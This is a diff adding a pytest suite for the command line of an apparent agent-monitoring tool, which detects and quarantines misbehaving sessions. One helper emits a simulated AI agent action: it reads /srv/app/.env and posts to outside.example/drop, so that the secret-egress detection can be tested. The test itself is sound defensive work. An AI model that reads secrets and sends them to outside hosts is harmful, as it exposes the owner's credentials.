@@ -1,0 +1,193 @@
+"""The command line as people and programs meet it: real processes, exit codes, text and JSON."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from interlock import Client
+from monitor.cli.kafka import PARTITIONS
+from monitor.sources import kafka_topics
+
+ROOT = Path(__file__).resolve().parents[2]
+SESSION = ROOT / "fixtures" / "sessions" / "coding-1.jsonl.gz"
+INVARIANTS = ROOT / "fixtures" / "invariants"
+
+BROKEN = """\
+version: 1
+predicates:
+  a: kind == "x" &&
+invariants:
+  - {id: one, severity: critical, never: a and onse b}
+  - {id: one, severity: loud, never: a}
+"""
+WRONG_EXAMPLE = """\
+version: 1
+predicates:
+  a: kind == "a"
+invariants:
+  - id: no-a
+    severity: warning
+    never: a
+    examples:
+      - name: an a is found
+        events: [{kind: b}, {kind: a}]
+        violated_at: [0]
+"""
+
+
+def interlock(*arguments: str | Path, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
+    command = [sys.executable, "-m", "monitor.cli", *map(str, arguments)]
+    return subprocess.run(
+        command, cwd=ROOT, input=stdin, capture_output=True, timeout=120, check=False
+    )
+
+
+def started(*arguments: str | Path) -> subprocess.Popen[bytes]:
+    command = [sys.executable, "-m", "monitor.cli", *map(str, arguments)]
+    return subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+
+def wait_for(path: Path, seconds: float = 20) -> None:
+    end = time.monotonic() + seconds
+    while not path.exists():
+        assert time.monotonic() < end, f"{path} did not appear"
+        time.sleep(0.02)
+
+
+def test_check_tells_every_fault_at_once(tmp_path: Path) -> None:
+    """All faults of a file come in one run, with their places, and exit code 2."""
+    (tmp_path / "broken.yaml").write_text(BROKEN)
+    told = interlock("check", tmp_path)
+    lines = told.stdout.decode().splitlines()
+    assert told.returncode == 2
+    places = {line.split(":")[1] for line in lines[:-1]}
+    assert {"3", "5", "6"} <= places, lines
+    content = json.loads(interlock("check", tmp_path, "--output", "json").stdout)
+    assert len(content["faults"]) == len(lines) - 1
+
+
+def test_test_fails_where_an_example_does(tmp_path: Path) -> None:
+    """An example that expects the wrong event fails, with both lists, and exit code 1."""
+    (tmp_path / "wrong.yaml").write_text(WRONG_EXAMPLE)
+    told = interlock("test", tmp_path)
+    assert told.returncode == 1
+    assert b"violated at [1], expected at [0]" in told.stdout
+    assert interlock("test", INVARIANTS).returncode == 0
+
+
+def test_a_finished_file_gives_findings_and_exit_code_1() -> None:
+    """The same findings come from a file and from standard input, each once."""
+    told = interlock("run", "--invariants", INVARIANTS, "--source", SESSION, "--output", "json")
+    assert told.returncode == 1, told.stderr.decode()
+    from_file = [json.loads(line)["id"] for line in told.stdout.splitlines()]
+    text = subprocess.run(["gzip", "-dc", SESSION], capture_output=True, check=True).stdout
+    piped = interlock(
+        "run", "--invariants", INVARIANTS, "--source", "-", "--output", "json", stdin=text
+    )
+    assert [json.loads(line)["id"] for line in piped.stdout.splitlines()] == from_file
+    assert len(from_file) == len(set(from_file)) > 0
+
+
+def test_a_live_run_is_stopped_cleanly_and_goes_on_after_a_kill(tmp_path: Path) -> None:
+    """SIGKILL loses nothing, SIGTERM ends with 0, and a second monitor is refused by its lock."""
+    log, state = tmp_path / "log", tmp_path / "state"
+    log.mkdir()
+    arguments = ("run", "--invariants", INVARIANTS, "--source", f"log:{log}", "--state-dir", state)
+    first = started(*arguments, "--http-port", "0")
+    wait_for(state / "state.sqlite")
+    wait_for(log / "interlock.control")
+    second = interlock(*arguments, "--http-port", "0")
+    assert second.returncode == 2
+    assert str(first.pid) in second.stderr.decode()
+    with Client(f"log:{log}", agent="tester", fail="open", before_view="allow") as client:
+        publish_theft(client, "before")
+        first.send_signal(signal.SIGKILL)
+        first.communicate(timeout=30)
+        publish_theft(client, "while-down")
+    third = started(*arguments, "--http-port", "0")
+    end = time.monotonic() + 30
+    while {f["session"] for f in findings(state)} != {"before", "while-down"}:
+        assert time.monotonic() < end, findings(state)
+        time.sleep(0.1)
+    third.send_signal(signal.SIGTERM)
+    third.communicate(timeout=30)
+    assert third.returncode == 0
+    found = findings(state)
+    assert len({f["id"] for f in found}) == len(found) == 2
+    shown = interlock("findings", "show", found[0]["id"][:14], "--state-dir", state)
+    assert shown.returncode == 0 and b"because of these events" in shown.stdout
+    standing = interlock("control", "list", "--source", f"log:{log}", "--output", "json")
+    assert any(
+        r["target"] == "session:before" and r["state"] == "quarantined"
+        for r in json.loads(standing.stdout)
+    )
+    released = interlock("control", "release", "session:before", "--source", f"log:{log}")
+    assert released.returncode == 0, released.stderr.decode()
+
+
+def publish_theft(client: Client, session_id: str) -> None:
+    """A secret is read, then something leaves for outside."""
+    with client.session(session_id) as session:
+        done = {"tool": "read_file", "call": "1", "args": {"path": "/srv/app/.env"}, "result": "x"}
+        session.emit("tool.completed", **done)
+        outside = {"url": "http://outside.example/drop", "body": "x"}
+        session.emit("tool.requested", tool="http.post", call="2", args=outside)
+    client.flush(10)
+
+
+def findings(state: Path) -> list[dict[str, str]]:
+    told = interlock("findings", "list", "--state-dir", state, "--output", "json")
+    content = json.loads(told.stdout or b"[]")
+    return [f for f in content if f["invariant"] == "no-secret-egress"]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "code"),
+    [
+        (("--version",), 0),
+        ((), 2),
+        (("run",), 2),
+        (("run", "--source", "log:/nowhere", "--no-such-flag"), 2),
+        (("findings", "list", "--state-dir", "/nowhere"), 2),
+        (("explain", "nobody"), 2),
+        (("control", "kill", "bare-word", "--source", "log:/nowhere"), 2),
+        (("schema", "event"), 0),
+        (("schema", "invariants"), 0),
+        (("completion", "bash"), 0),
+        (("explain", "no-secret-egress", "--invariants", str(INVARIANTS)), 0),
+    ],
+)
+def test_exit_codes(arguments: tuple[str, ...], code: int) -> None:
+    """0 is fine; what a person can mend in the call is 2, said without a traceback."""
+    told = interlock(*arguments)
+    assert told.returncode == code, told.stderr.decode()
+    assert b"Traceback" not in told.stderr
+
+
+def test_kafka_init_has_the_partitions_of_its_topics() -> None:
+    """The number in the flag's help is the one that the topics are made with."""
+    assert PARTITIONS == kafka_topics.PARTITIONS
+
+
+def test_the_check_starts_no_heavy_library() -> None:
+    """`interlock check` opens neither Kafka nor the store nor the metrics."""
+    code = (
+        "import sys, monitor.cli.__main__ as m; m.main(['check', sys.argv[1]]);"
+        "print(sorted({'kafka', 'prometheus_client'} & set(sys.modules)))"
+    )
+    told = subprocess.run(
+        [sys.executable, "-c", code, str(INVARIANTS)],
+        cwd=ROOT,
+        capture_output=True,
+        env={**os.environ},
+        check=True,
+    )
+    assert told.stdout.decode().splitlines()[-1] == "[]"
